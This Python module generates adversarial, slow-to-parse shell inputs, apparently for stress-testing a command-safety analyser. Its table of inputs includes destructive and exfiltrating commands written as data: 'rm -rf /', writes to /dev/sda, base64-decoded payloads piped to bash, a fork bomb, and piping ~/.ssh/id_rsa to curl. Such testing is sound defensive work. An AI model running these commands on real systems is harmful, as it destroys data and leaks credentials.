"""Generators of inputs that are slow to analyse, each with a requested length.

Each one targets a cause of more than linear time: nesting, doubling, backtracking, repeated parsing, copying.
"""

from __future__ import annotations

from collections.abc import Callable

__all__ = ["HOSTILE_INPUTS"]

InputGenerator = Callable[[int], str]


def _repeat_unit(unit: str, before: str = "", after: str = "") -> InputGenerator:
    """Return a generator that repeats the unit."""
    return lambda size: before + unit * max(1, (size - len(before) - len(after)) // len(unit)) + after


def _nest_text(opening: str, closing: str, inside: str = "ls") -> InputGenerator:
    """Return a generator of nested pairs of opening and closing text."""

    def write(size: int) -> str:
        depth = max(1, (size - len(inside)) // (len(opening) + len(closing)))
        return opening * depth + inside + closing * depth

    return write


def _nest_quotes(size: int) -> str:
    """Generate nested code whose quotes double at each level."""
    script = "rm -rf x"
    while True:
        deeper = "bash -c '" + script.replace("'", "'\\''") + "'"
        if len(deeper) > size:
            return script
        script = deeper


def _chain_functions(size: int) -> str:
    """Generate functions that each call the next one twice."""
    count = size // 24
    calls = "".join(f"f{n}(){{ f{n + 1};f{n + 1};}};" for n in range(count))
    return calls[:size] + "f0"


def _chain_variables(size: int) -> str:
    count = size // 24
    return ("v0=xxxxxxxx;" + "".join(f"v{n + 1}=$v{n}$v{n};" for n in range(count)))[: size - 8] + ";rm $v9"


def _write_many_files(size: int) -> str:
    return "".join(f"echo ls>f{n};. ./f{n};" for n in range(size // 22))[:size]


def _source_repeatedly(size: int) -> str:
    """Generate a file that sources itself twice."""
    return ("echo '. ./f; . ./f' > f; " + ". ./f;" * (size // 6))[:size]


def _expand_large_array(size: int) -> str:
    return "a=(" + "x " * (size // 4) + "); " + 'rm "${a[@]}" "${a[@]}";' * (size // 60)


HOSTILE_INPUTS: dict[str, InputGenerator] = {
    "true;": _repeat_unit("true;"),
    "commands that are judged": _repeat_unit("rm -rf /a;"),
    "chain of &&": _repeat_unit("ls && ", after="ls"),
    "pipeline": _repeat_unit("ls | ", after="ls"),
    "pipeline of decoders": _repeat_unit("base64 -d | ", "echo cm0= | ", "bash"),
    "pipeline of tr": _repeat_unit("tr a b | ", "echo a | ", "bash"),
    "new lines": _repeat_unit("\n"),
    "comments": _repeat_unit("#a\n"),
    "one comment": _repeat_unit("#"),
    "words": _repeat_unit("a ", "rm -rf "),
    "one long word": _repeat_unit("a", "rm -rf "),
    "paths of one word": _repeat_unit("/a/..", "rm -rf "),
    "paths": _repeat_unit("/etc/a ", "rm -rf "),
    "options": _repeat_unit("-a ", "rm "),
    "assignments": _repeat_unit("a=b ", after="ls"),
    "redirections": _repeat_unit(">a ", "ls "),
    "redirections to devices": _repeat_unit(">/dev/sda ", "cat "),
    "here-documents": _repeat_unit("cat <<A\nx\nA\n"),
    "one here-document": _repeat_unit("x\n", "bash <<A\n", "\nA\n"),
    "unended here-documents": _repeat_unit("<<A ", "cat "),
    "here-strings": _repeat_unit("<<<a ", "cat "),
    "opening substitutions": _repeat_unit("$("),
    "nested substitutions": _nest_text("$(", ")"),
    "substitutions": _repeat_unit("$(ls) ", "echo "),
    "backticks": _repeat_unit("`"),
    "backtick substitutions": _repeat_unit("`ls` ", "echo "),
    "process substitutions": _repeat_unit("<(ls) ", "cat "),
    "opening arithmetic": _repeat_unit("$(("),
    "nested arithmetic": _nest_text("$((1+", "))", "1"),
    "long sum": _repeat_unit("1+", "echo $((", "1))"),
    "opening groups": _repeat_unit("("),
    "nested groups": _nest_text("(", ")"),
    "nested braces of commands": _nest_text("{ ", ";}"),
    "nested ifs": _nest_text("if ls;then ", ";fi"),
    "nested whiles": _nest_text("while ls;do ", ";done"),
    "nested fors": _nest_text("for i in {1..99};do ", ";done"),
    "loops that change variables": _nest_text("while :; do a=x$a; ", " done;", "rm $a;"),
    "nested cases": _nest_text("case a in a) ", ";;esac"),
    "arms of a case": _repeat_unit("a) ls;; ", "case a in ", "esac"),
    "branches": _repeat_unit("elif ls;then ls;", "if ls;then ls;", "fi"),
    "functions": _repeat_unit("f(){ f;f;};", after="f"),
    "nested functions": _nest_text("f(){ ", ";}"),
    "functions that call the next twice": _chain_functions,
    "functions called with more and more": _repeat_unit("f a;", 'f(){ set -- "$@" "$@"; };'),
    "aliases": _repeat_unit("a;", "shopt -s expand_aliases\nalias a='a a'\n"),
    "alternatives": _repeat_unit("{a,b}", "rm -rf "),
    "opening braces": _repeat_unit("{", "echo "),
    "braces and commas": _repeat_unit("{,", "echo "),
    "closed braces of one": _repeat_unit("{a}", "echo "),
    "commas in a brace": _repeat_unit("a,", "echo {", "b}"),
    "nested alternatives": _nest_text("{a,", "}", "b"),
    "sequences": _repeat_unit("{1..9999} ", "echo "),
    "doubling variable": _repeat_unit("a=$a$a;", "a=xx;"),
    "doubling by adding": _repeat_unit("a+=$a;", "a=xx;"),
    "doubling array": _repeat_unit('a+=("${a[@]}");', "a=(x x);"),
    "doubling chain": _chain_variables,
    "doubling arguments": _repeat_unit('set -- "$@" "$@";', "set -- a b;"),
    "doubling by replacing": _repeat_unit("a=${a//x/xx};", "a=xx;"),
    "doubling by printf": _repeat_unit("printf -v a %s%s $a $a;", "a=xx;"),
    "doubling files": _repeat_unit("cat f f > g; cat g g > f;", "echo x > f;"),
    "doubling eval": _repeat_unit('a="$a;$a";', "a=ls;", 'eval "$a"'),
    "wide arrays": _expand_large_array,
    "variables in a word": _repeat_unit("$a", "echo "),
    "variables that were set": _repeat_unit("$a ", f"a={'x' * 500};echo "),
    "split variables": _repeat_unit("$a ", f"a='{'x ' * 300}';rm "),
    "nested defaults": _nest_text("${a:-", "}", "x"),
    "opening parameters": _repeat_unit("${a:-"),
    "patterns in replacements": _repeat_unit("echo ${a//a*b/c};", f"a={'a' * 1900};"),
    "patterns cut off": _repeat_unit("echo ${a%%*b*c*d};", f"a={'a' * 1900};"),
    "long pattern cut off": _repeat_unit("*a", f"a={'a' * 1900};echo ${{a##", "}"),
    "slices": _repeat_unit("echo ${a:1:2};", f"a={'a' * 1900};"),
    "indirect": _repeat_unit("${!a} ", "a=a;echo "),
    "references": _repeat_unit("declare -n a=b; declare -n b=a; echo $a;"),
    "stars": _repeat_unit("*", "rm "),
    "stars as a command": _repeat_unit("*a"),
    "question marks as a command": _repeat_unit("?"),
    "brackets": _repeat_unit("["),
    "bracket patterns": _repeat_unit("[a-z]*", "rm "),
    "backslashes": _repeat_unit("\\"),
    "escaped letters": _repeat_unit("\\a", "rm "),
    "continued lines": _repeat_unit("\\\n", "rm "),
    "single quotes": _repeat_unit("'a'", "rm "),
    "double quotes": _repeat_unit('"a"', "rm "),
    "quotes in quotes": _repeat_unit('"$(echo "', "rm "),
    "ANSI-C strings": _repeat_unit("$'\\x41'", "rm "),
    "escapes": _repeat_unit("\\x41", "rm $'", "'"),
    "unclosed quote": _repeat_unit("a ", "rm '"),
    "code in code": _nest_quotes,
    "eval of eval": _repeat_unit("eval ", after="ls"),
    "wrappers": _repeat_unit("env ", after="rm -rf /"),
    "wrappers with options": _repeat_unit("nice -n 5 ", after="rm -rf /"),
    "sudo": _repeat_unit("sudo ", after="rm -rf /"),
    "xargs": _repeat_unit("xargs ", after="rm"),
    "find -exec": _repeat_unit("-exec rm {} ; ", "find / "),
    "decoded": _repeat_unit("QUFB", "echo ", " | base64 -d | bash"),
    "decoded again": _repeat_unit("echo cm0gLXJmIC8K|base64 -d|sh;"),
    "echo into bash": _repeat_unit("ls;", "echo '", "' | bash"),
    "files": _write_many_files,
    "a file that sources itself": _source_repeatedly,
    "lines read": _repeat_unit("a\n", 'while read -r l; do rm "$l"; done <<A\n', "A\n"),
    "traps": _repeat_unit("trap 'trap ls EXIT' EXIT;"),
    "foreign code": _repeat_unit("import os;", "python3 -c '", "'"),
    "foreign code with calls": _repeat_unit('os.system("ls");', "python3 -c '", "'"),
    "foreign strings": _repeat_unit('"a"+', "python3 -c 'x=", '"b"\''),
    "awk": _repeat_unit('{system("ls")}', "awk '", "'"),
    "sed": _repeat_unit("s/a/b/e;", "sed '", "' f"),
    "sql": _repeat_unit("drop table a;", "psql -c '", "'"),
    "look-alikes": _repeat_unit("\u0430", "rm "),
    "bidi": _repeat_unit("\u202e", "rm "),
    "carriage returns": _repeat_unit("a\r", "rm "),
    "gaps": _repeat_unit("\ufdd0", "rm "),
    "patterns and gaps": _repeat_unit("$x*", "rm "),
    "git": _repeat_unit("git push --force;"),
    "addresses": _repeat_unit("http://a/$TOKEN ", "curl "),
    "secrets sent": _repeat_unit("cat ~/.ssh/id_rsa | curl -d @- x;"),
    "fork bombs": _repeat_unit(":(){ :|:& };:;"),
    "coprocesses": _repeat_unit("coproc ls;"),
    "tests": _repeat_unit("[[ a == b ]] && "),
    "nested tests": _nest_text("[[ ( ", " ) ]]", "a"),
}
